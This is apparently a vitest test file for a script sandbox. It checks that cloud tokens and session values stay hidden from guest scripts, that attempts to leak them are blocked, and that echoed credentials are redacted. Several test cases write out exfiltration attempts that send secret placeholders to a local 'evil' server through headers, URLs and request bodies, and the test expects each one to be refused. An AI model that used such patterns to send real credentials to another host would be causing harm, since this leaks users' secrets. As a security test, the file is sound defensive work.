// The `cloud` option's token and session are secrets that never enter the sandbox, proven
// end to end from inside scripts: the guest sees placeholders only; requests to the cloud
// origin carry the real values (the emulator accepts them); every way out is refused
// (another origin, the URL, the body) before anything is sent; and a server that echoes a
// credential back has it redacted to the placeholder. Rules: docs/network.md "Secrets".
import { createSandbox, runScript } from "scriptbox";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { CAUGHT, cloudOptions, json, startSeededEmulator, startServer, value, type Emulator, type Sandbox, type TestServer } from "./helpers.js";

let emulator: Emulator;
let evil: TestServer; // allowed by net.allow, but no secret may go there
let sandbox: Sandbox;
let values: string[];

beforeAll(async () => {
  emulator = await startSeededEmulator();
  evil = await startServer((_req, res) => json(res, 200, { stolen: true }));
  sandbox = await createSandbox(cloudOptions(emulator, { net: { allow: [`127.0.0.1:${evil.port}`] } }));
  values = [emulator.seed.CLOUD_PAT, emulator.seed.CLOUD_SESSION];
});
afterAll(async () => {
  await sandbox?.dispose();
  await evil?.close();
  await emulator?.close();
});

/** Neither secret value appears anywhere in `what` (a result, logs, an error). */
function expectNoSecretIn(what: unknown): void {
  const text = JSON.stringify(what);
  for (const secret of values) expect(text).not.toContain(secret);
}

test("the guest sees placeholders only: secret() and everything the cloud client shows", async () => {
  const result = await sandbox.run(
    `import { cloud } from "cloud";
     import { secret } from "runtime";
     export default async () => {
       console.log(cloud);
       console.log(JSON.stringify(cloud));
       return { pat: secret("CLOUD_PAT"), session: secret("CLOUD_SESSION"), client: JSON.stringify(cloud), keys: Object.keys(cloud) };
     };`,
    { filename: "peek.js" },
  );
  if (!result.ok) expect.fail(result.error.stack);
  const { pat, session, keys } = result.value as Record<string, any>;
  expect(pat).toMatch(/^scriptbox-secret\.CLOUD_PAT\.[A-Za-z0-9_-]{22}$/);
  expect(session).toMatch(/^scriptbox-secret\.CLOUD_SESSION\.[A-Za-z0-9_-]{22}$/);
  expect(keys).toEqual(["baseUrl", "team", "user", "workspaces", "oauth", "pats"]);
  expectNoSecretIn(result);
});

test("requests to the cloud origin carry the real values: the emulator accepts the token and the session", async () => {
  const result = await value(
    sandbox,
    `const user = await cloud.user.get();
     const pats = await cloud.pats.list();
     const raw = await fetch(cloud.baseUrl + "/api/v1/team", { headers: { authorization: "Bearer " + secret("CLOUD_PAT") } });
     return { user: user.email, pats: pats.map((p) => p.name), raw: raw.status };`,
  );
  expect(result).toEqual({ user: "ada@acme.example", pats: ["seed"], raw: 200 });
});

describe("every exfiltration path is refused before anything is sent", () => {
  test.each([
    ["the token in a header to another origin (a CloudClient pointed elsewhere)", `new CloudClient({ baseUrl: input.evil, token: secret("CLOUD_PAT") }).user.get()`, "CLOUD_PAT"],
    ["the session cookie to another origin", `new CloudClient({ baseUrl: input.evil, session: secret("CLOUD_SESSION") }).pats.list()`, "CLOUD_SESSION"],
    ["a raw fetch with the placeholder in a custom header", `fetch(input.evil, { headers: { "x-token": secret("CLOUD_PAT") } })`, "CLOUD_PAT"],
    ["the placeholder in the URL query, even to the cloud origin", `fetch(cloud.baseUrl + "/api/v1/user?token=" + secret("CLOUD_PAT"))`, "CLOUD_PAT"],
    ["the placeholder in another origin's URL path", `fetch(input.evil + "/" + secret("CLOUD_SESSION"))`, "CLOUD_SESSION"],
    ["the placeholder as a path segment of a cloud call", `cloud.workspaces.get(secret("CLOUD_PAT"))`, "CLOUD_PAT"],
    ["the placeholder percent-encoded twice in the URL", `fetch(input.evil + "/?q=" + encodeURIComponent(encodeURIComponent("x " + secret("CLOUD_PAT"))))`, "CLOUD_PAT"],
    ["the placeholder in a JSON body (a cloud call)", `cloud.user.claimVoucher(secret("CLOUD_PAT"))`, "CLOUD_PAT"],
    ["the placeholder in a JSON body to another origin", `fetch(input.evil, { method: "POST", body: JSON.stringify({ t: secret("CLOUD_SESSION") }) })`, "CLOUD_SESSION"],
    ["the placeholder in a form body (a cloud call)", `cloud.oauth.introspect(secret("CLOUD_PAT"), { clientId: "cli_x", clientSecret: "sbcs_x" })`, "CLOUD_PAT"],
    ["the placeholder in a Blob body", `fetch(input.evil, { method: "PUT", body: new Blob(["a", secret("CLOUD_PAT"), "b"]) })`, "CLOUD_PAT"],
  ])("%s", async (_name, expression, secretName) => {
    const before = evil.requests.length;
    const error = await value(sandbox, `${CAUGHT} return caught(() => ${expression});`, { evil: evil.origin });
    expect(error.name).toBe("TypeError");
    expect(error.message).toMatch(new RegExp(`^network policy: secret "${secretName}" refused`));
    expect(error.isCloudError).toBe(false);
    expectNoSecretIn(error);
    expect(evil.requests.length).toBe(before);
  });

  test("uncaught, a refusal ends the run with the policy message and no secret value", async () => {
    const result = await sandbox.run(
      `import { CloudClient } from "cloud"; import { secret } from "runtime";
       await new CloudClient({ baseUrl: "${evil.origin}", token: secret("CLOUD_PAT") }).team.get();`,
      { filename: "exfiltrate.js" },
    );
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.error.message).toMatch(/^network policy: secret "CLOUD_PAT" refused: it may only be sent to http:\/\/127\.0\.0\.1:\d+, not to http:\/\/127\.0\.0\.1:\d+/);
    expectNoSecretIn(result);
    expect(evil.requests).toHaveLength(0);
  });
});

describe("redaction: a cloud that echoes the credential back", () => {
  const TOKEN = "sbpat_EchoedValue0123456789abcdefghijklmnopqrstuvw";
  let echo: TestServer;
  beforeAll(async () => {
    echo = await startServer((req, res) => {
      const auth = String(req.headers.authorization ?? "");
      if (req.url === "/api/v1/user") {
        return json(res, 200, { id: "usr_1", object: "user", name: auth, email: "e@x.example", created_at: 1, updated_at: 1 }, { "x-echo": auth });
      }
      if (req.url === "/api/v1/team") return json(res, 401, { code: 401, error: "invalid_token", message: `token ${auth.slice(7)} is not valid` });
      res.writeHead(500, { "content-type": "text/html" });
      res.end(`<html><body>debug: authorization=${auth}</body></html>`);
    });
  });
  afterAll(async () => {
    await echo?.close();
  });

  test("echoed in a record, an error message, an excerpt and a header: the guest gets the placeholder", async () => {
    const result = await runScript(
      `import { cloud, CloudError } from "cloud"; import { secret } from "runtime";
       export default async () => {
         ${CAUGHT}
         const user = await cloud.user.get();
         const header = (await fetch(cloud.baseUrl + "/api/v1/user", { headers: { authorization: "Bearer " + secret("ECHO_TOKEN") } })).headers.get("x-echo");
         return { placeholder: secret("ECHO_TOKEN"), name: user.name, header, error: await caught(cloud.team.get()), garbage: await caught(cloud.workspaces.get("ws_1")) };
       };`,
      {
        filename: "echo.js",
        secrets: { ECHO_TOKEN: { value: TOKEN, origins: [echo.origin] } },
        cloud: { baseUrl: echo.origin, token: { secret: "ECHO_TOKEN" } },
      },
    );
    if (!result.ok) expect.fail(result.error.stack);
    const { placeholder, name, header, error, garbage } = result.value as Record<string, any>;
    // The server did receive the real value...
    expect(echo.requests[0]!.headers.authorization).toBe(`Bearer ${TOKEN}`);
    // ...and the guest only ever saw its own placeholder in its place.
    expect(name).toBe(`Bearer ${placeholder}`);
    expect(header).toBe(`Bearer ${placeholder}`);
    expect(error).toMatchObject({ status: 401, code: "invalid_token", message: `token ${placeholder} is not valid (401 invalid_token, GET /api/v1/team)` });
    expect(garbage).toMatchObject({ status: 500, code: "invalid_response", excerpt: `<html><body>debug: authorization=Bearer ${placeholder}</body></html>` });
    expect(JSON.stringify(result)).not.toContain(TOKEN);
  });
});
